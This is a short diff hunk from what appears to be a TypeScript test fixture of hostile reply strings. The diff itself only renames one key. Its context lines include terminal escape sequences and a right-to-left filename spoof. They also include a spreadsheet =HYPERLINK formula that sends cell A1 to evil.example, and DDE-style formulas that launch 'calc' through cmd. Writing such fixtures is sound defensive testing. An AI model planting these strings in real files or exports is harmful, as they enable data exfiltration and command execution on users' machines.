@@ -23,7 +23,7 @@ const REPLIES: Record<string, string> = {
   'eight-bit': 'a\u009b31mred\u009d0;title\u009c and \u0085',
   bidi: 'safe\u202egnp.exe\u2066 \u200f\u061c\u2069',
   backspace: 'secret\b\b\b\b\b\bpublic\u007f',
-  nul: 'a\0b',
+  zero: 'a\0b',
   formula: '=HYPERLINK("http://evil.example?"&A1,"see")',
   at: "@SUM(1+1)*cmd|' /C calc'!A0",
   plus: "+1+cmd|' /C calc'!A0",
